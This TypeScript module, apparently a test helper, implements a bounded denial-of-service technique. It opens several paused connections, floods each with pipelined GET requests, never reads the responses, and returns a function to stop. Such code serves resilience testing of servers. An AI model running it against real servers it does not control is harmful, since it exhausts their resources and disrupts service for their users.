// An attack: many requests on a few connections, and no answer is read. Bounded; ends with the function that it returns.
import { once } from 'node:events';
import { connect } from 'node:net';

type Order = {
  readonly url: string;
  readonly path: string;
  readonly connections: number;
  /** On each connection, all at once. */
  readonly requests: number;
};

/** Resolves with the function that ends the attack, once all requests are sent as far as the server reads them. */
export async function leaveAnswersUnread({ url, path, connections, requests }: Order): Promise<() => void> {
  const { hostname, port } = new URL(url);
  const sockets = await Promise.all(
    Array.from({ length: connections }, async () => {
      const socket = connect({ host: hostname, port: Number(port) }).pause();
      socket.on('error', () => undefined);
      await once(socket, 'connect');
      return socket;
    }),
  );
  for (const socket of sockets) socket.write(`GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(requests));
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}
